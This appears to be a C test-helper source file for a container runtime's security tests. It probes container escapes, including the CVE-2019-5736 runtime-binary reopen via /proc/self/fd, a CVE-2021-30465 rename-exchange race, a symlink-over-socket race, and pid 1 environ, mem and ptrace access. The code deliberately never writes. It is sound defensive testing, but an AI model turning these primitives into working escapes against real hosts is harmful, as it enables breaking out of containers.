// escape_tools: the attacker's side of tests/integration/escapes_test.sh. Built static, it
// runs inside the busybox containers (and on the host for `swap`). It never writes to
// anything it manages to open: the tests only need to know whether an open would succeed.
//
//   exe-attack DEV:INO RESULT   CVE-2019-5736: watch /proc for a process whose executable
//                               is the file DEV:INO (the runtime's binary), keep an O_PATH
//                               descriptor of it, wait for the process to end, then try to
//                               reopen the binary for writing through /proc/self/fd/K (no
//                               O_TRUNC, nothing written). Writes RESULT.caught when it has
//                               the descriptor, then RESULT: "OPENED" or an errno name, and
//                               "ro" or "rw" for the mount the binary was run from. Then
//                               sleeps (it is the container's init).
//   openw PATH...               for each PATH print "PATH OPENED" or "PATH ERRNO" for
//                               open(PATH, O_WRONLY) (no O_TRUNC, nothing written).
//   euid                        print "euid=N" and this process's CapEff line (setuid probe).
//   swap A B [N]                exchange the names A and B (renameat2 RENAME_EXCHANGE) N
//                               times, or in a tight loop until killed (CVE-2021-30465 mount
//                               target race).
//
// For tests/integration/security_test.sh:
//
//   notify-send MESSAGE         send MESSAGE as one datagram to $NOTIFY_SOCKET ("@name": an
//                               abstract address), as sd_notify(3) does; exit 1 (with the
//                               errno name) when it cannot.
//   notify-recv SOCK            bind a unix datagram socket at SOCK, create SOCK.ready, then
//                               print each datagram received as a line (at most 120 s).
//   link-race TARGET DIR NAME SECONDS
//                               for SECONDS, each time DIR/NAME is a socket, rename a symlink
//                               to TARGET (made ahead as DIR/.link-race-PID) onto it: the race
//                               against a runtime that binds a socket at DIR/NAME and then
//                               chmods it by its path. Prints "started" at once, "first-error=
//                               ERRNO" if making the link fails, "replaced the socket by a
//                               link" the first time, and at the end "links=N errors=M
//                               first-error=ERRNO|none".
//   proc1 MARKER                what a process may do to pid 1: "environ MARKER-SEEN" or
//                               "environ READ" (readable, without MARKER) or the errno of the
//                               open or read; "mem OPENED" or the errno of open(O_RDWR); then
//                               "attach OK" / "seize OK" or the errno of PTRACE_ATTACH and
//                               PTRACE_SEIZE (a successful attach is undone at once).
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char *errno_name(int e) {
  switch (e) {
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EISDIR: return "EISDIR";
    case EINVAL: return "EINVAL";
    case EBUSY: return "EBUSY";
    case ENXIO: return "ENXIO";
    case EIO: return "EIO";
    case ESRCH: return "ESRCH";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case ECONNREFUSED: return "ECONNREFUSED";
    case ELOOP: return "ELOOP";
    default: return NULL;
  }
}

static void put_errno(FILE *f, int e) {
  const char *n = errno_name(e);
  if (n != NULL) {
    fprintf(f, "%s", n);
  } else {
    fprintf(f, "errno%d", e);
  }
}

// write_file PATH TEXT: write TEXT to PATH atomically (PATH.tmp then rename).
static void write_file(const char *path, const char *text) {
  char tmp[4096];
  snprintf(tmp, sizeof tmp, "%s.tmp", path);
  FILE *f = fopen(tmp, "w");
  if (f == NULL) {
    perror(tmp);
    exit(1);
  }
  fprintf(f, "%s\n", text);
  if (fclose(f) != 0 || rename(tmp, path) != 0) {
    perror(path);
    exit(1);
  }
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

// The process has exited: gone, or a zombie.
static int gone(pid_t pid) {
  char p[64], buf[512];
  snprintf(p, sizeof p, "/proc/%d/stat", (int)pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 1;
  buf[n] = 0;
  char *rp = strrchr(buf, ')');
  return rp == NULL || rp[1] == 0 || rp[2] == 'Z' || rp[2] == 'X';
}

static int exe_attack(const char *devino, const char *result) {
  unsigned long long want_dev, want_ino;
  if (sscanf(devino, "%llu:%llu", &want_dev, &want_ino) != 2) {
    fprintf(stderr, "exe-attack: bad DEV:INO %s\n", devino);
    return 2;
  }
  pid_t self = getpid();
  int fd = -1;
  pid_t victim = 0;
  while (fd < 0) {
    DIR *d = opendir("/proc");
    if (d == NULL) {
      perror("/proc");
      return 1;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      if (!isdigit((unsigned char)e->d_name[0])) continue;
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid == self) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
      int f = open(p, O_PATH | O_CLOEXEC);
      if (f < 0) continue;
      struct stat st;
      if (fstat(f, &st) == 0 && (unsigned long long)st.st_dev == want_dev &&
          (unsigned long long)st.st_ino == want_ino) {
        fd = f;
        victim = pid;
        break;
      }
      close(f);
    }
    closedir(d);
  }
  // The mount the process ran the binary from: a protected runtime runs from a read-only one.
  struct statvfs sv;
  const char *mnt = fstatvfs(fd, &sv) < 0 ? "unknown" : (sv.f_flag & ST_RDONLY) ? "ro" : "rw";
  char text[256];
  snprintf(text, sizeof text, "caught pid %d fd %d", (int)victim, fd);
  char caught[4096];
  snprintf(caught, sizeof caught, "%s.caught", result);
  write_file(caught, text);
  // Only once the process is gone is the binary no longer busy as its text.
  while (!gone(victim)) usleep(1000);
  char self_fd[64];
  snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
  // Other runs of the binary (the runtime on the host) keep it busy for a moment:
  // ETXTBSY is retried for 10 s, as an attacker would.
  double end = now() + 10;
  int err;
  for (;;) {
    int w = open(self_fd, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      close(w);  // never write: the test must not damage the binary
      err = 0;
      break;
    }
    err = errno;
    if (err != ETXTBSY || now() > end) break;
    usleep(2000);
  }
  char out[128];
  FILE *m = fmemopen(out, sizeof out, "w");
  if (m == NULL) return 1;
  if (err == 0) {
    fprintf(m, "OPENED");
  } else {
    put_errno(m, err);
  }
  fprintf(m, " %s", mnt);
  fclose(m);
  write_file(result, out);
  for (;;) pause();
}

static int openw(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    printf("%s ", argv[i]);
    if (fd >= 0) {
      close(fd);
      printf("OPENED\n");
    } else {
      put_errno(stdout, errno);
      printf("\n");
    }
  }
  return 0;
}

static int euid(void) {
  printf("euid=%d\n", (int)geteuid());
  FILE *f = fopen("/proc/self/status", "r");
  if (f == NULL) return 1;
  char line[256];
  while (fgets(line, sizeof line, f) != NULL) {
    if (strncmp(line, "CapEff:", 7) == 0 || strncmp(line, "NoNewPrivs:", 11) == 0) {
      fputs(line, stdout);
    }
  }
  fclose(f);
  return 0;
}

static int swap(const char *a, const char *b, long n) {
  for (long i = 0; n < 0 || i < n; i++) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
      perror("renameat2");
      return 1;
    }
  }
  return 0;
}

// An AF_UNIX address for PATH ("@name": abstract). Returns its length.
static socklen_t unix_addr(const char *path, struct sockaddr_un *a) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  size_t n = strlen(path);
  if (n >= sizeof a->sun_path) n = sizeof a->sun_path - 1;
  memcpy(a->sun_path, path, n);
  if (a->sun_path[0] == '@') a->sun_path[0] = '\0';
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (path[0] == '@' ? 0 : 1));
}

static int notify_send(const char *message) {
  const char *path = getenv("NOTIFY_SOCKET");
  if (path == NULL || *path == '\0') {
    fprintf(stderr, "notify-send: NOTIFY_SOCKET is not set\n");
    return 1;
  }
  struct sockaddr_un a;
  socklen_t len = unix_addr(path, &a);
  int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (s < 0 || sendto(s, message, strlen(message), MSG_NOSIGNAL, (struct sockaddr *)&a, len) < 0) {
    fprintf(stderr, "notify-send: %s: ", path);
    put_errno(stderr, errno);
    fprintf(stderr, "\n");
    return 1;
  }
  close(s);
  return 0;
}

static int notify_recv(const char *path) {
  struct sockaddr_un a;
  socklen_t len = unix_addr(path, &a);
  int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    perror("socket");
    return 1;
  }
  unlink(path);
  if (bind(s, (struct sockaddr *)&a, len) < 0) {
    perror(path);
    return 1;
  }
  char ready[4096];
  snprintf(ready, sizeof ready, "%s.ready", path);
  int r = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (r >= 0) close(r);
  setvbuf(stdout, NULL, _IONBF, 0);
  alarm(120);
  for (;;) {
    char buf[8192];
    ssize_t n = recv(s, buf, sizeof buf - 1, 0);
    if (n < 0 && errno == EINTR) continue;
    if (n < 0) {
      perror("recv");
      return 1;
    }
    buf[n] = '\0';
    while (n > 0 && buf[n - 1] == '\n') buf[--n] = '\0';
    printf("%s\n", buf);
  }
}

static int link_race(const char *target, const char *dir, const char *name, double seconds) {
  char tmp[4096], dst[4096];
  snprintf(tmp, sizeof tmp, "%s/.link-race-%d", dir, (int)getpid());
  snprintf(dst, sizeof dst, "%s/%s", dir, name);
  printf("started\n");
  fflush(stdout);
  long links = 0, errors = 0;
  int first = 0, ready = 0;
  double end = now() + seconds;
  while (now() < end) {
    for (int i = 0; i < 1024; i++) {
      if (!ready) {
        // The link, made ahead, waits for its moment under another name.
        if (symlink(target, tmp) < 0 && errno != EEXIST) {
          if (first == 0) {
            first = errno;
            printf("first-error=");
            put_errno(stdout, first);
            printf("\n");
            fflush(stdout);
          }
          errors++;
          usleep(1000);  // nothing to race with (a read-only directory): do not spin
          continue;
        }
        ready = 1;
      }
      struct stat st;
      if (lstat(dst, &st) < 0 || !S_ISSOCK(st.st_mode)) continue;
      // The socket has just been bound: put the link in its place before it is chmod'ed.
      if (rename(tmp, dst) < 0) {
        if (first == 0) first = errno;
        errors++;
        continue;
      }
      ready = 0;
      if (links++ == 0) {
        printf("replaced the socket by a link\n");
        fflush(stdout);
      }
    }
  }
  unlink(tmp);
  printf("links=%ld errors=%ld first-error=", links, errors);
  if (first == 0) {
    printf("none");
  } else {
    put_errno(stdout, first);
  }
  printf("\n");
  return 0;
}

// One ptrace request against pid 1 in a child of ours, which undoes it and exits (a
// tracer's exit detaches what it traces).
static void try_ptrace(const char *what, int request) {
  pid_t c = fork();
  if (c == 0) {
    if (ptrace(request, 1, NULL, NULL) < 0) _exit(100 + errno);
    if (request == PTRACE_ATTACH) {
      int st;
      waitpid(1, &st, __WALL);
      ptrace(PTRACE_DETACH, 1, NULL, NULL);
    }
    _exit(0);
  }
  int st = 0;
  waitpid(c, &st, 0);
  printf("%s ", what);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0) {
    printf("OK\n");
  } else if (WIFEXITED(st) && WEXITSTATUS(st) >= 100) {
    put_errno(stdout, WEXITSTATUS(st) - 100);
    printf("\n");
  } else {
    printf("UNKNOWN(status %d)\n", st);
  }
  fflush(stdout);
}

static int proc1(const char *marker) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int fd = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
  printf("environ ");
  if (fd < 0) {
    put_errno(stdout, errno);
  } else {
    static char buf[1 << 20];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) {
      put_errno(stdout, errno);
    } else {
      buf[n] = '\0';
      int seen = 0;
      for (char *p = buf; p < buf + n; p += strlen(p) + 1) {
        if (strstr(p, marker) != NULL) seen = 1;
      }
      printf("%s", seen ? "MARKER-SEEN" : "READ");
    }
    close(fd);
  }
  printf("\n");
  fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  printf("mem ");
  if (fd >= 0) {
    close(fd);  // never written
    printf("OPENED\n");
  } else {
    put_errno(stdout, errno);
    printf("\n");
  }
  try_ptrace("attach", PTRACE_ATTACH);
  try_ptrace("seize", PTRACE_SEIZE);
  return 0;
}

int main(int argc, char **argv) {
  if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0) return exe_attack(argv[2], argv[3]);
  if (argc >= 2 && strcmp(argv[1], "openw") == 0) return openw(argc - 2, argv + 2);
  if (argc >= 2 && strcmp(argv[1], "euid") == 0) return euid();
  if (argc >= 4 && strcmp(argv[1], "swap") == 0) {
    return swap(argv[2], argv[3], argc >= 5 ? atol(argv[4]) : -1);
  }
  if (argc == 3 && strcmp(argv[1], "notify-send") == 0) return notify_send(argv[2]);
  if (argc == 3 && strcmp(argv[1], "notify-recv") == 0) return notify_recv(argv[2]);
  if (argc == 6 && strcmp(argv[1], "link-race") == 0) {
    return link_race(argv[2], argv[3], argv[4], atof(argv[5]));
  }
  if (argc == 3 && strcmp(argv[1], "proc1") == 0) return proc1(argv[2]);
  fprintf(stderr,
          "usage: %s exe-attack DEV:INO RESULT | openw PATH... | euid | swap A B [N] |\n"
          "       notify-send MESSAGE | notify-recv SOCK | link-race TARGET DIR NAME SECONDS |\n"
          "       proc1 MARKER\n",
          argv[0]);
  return 2;
}
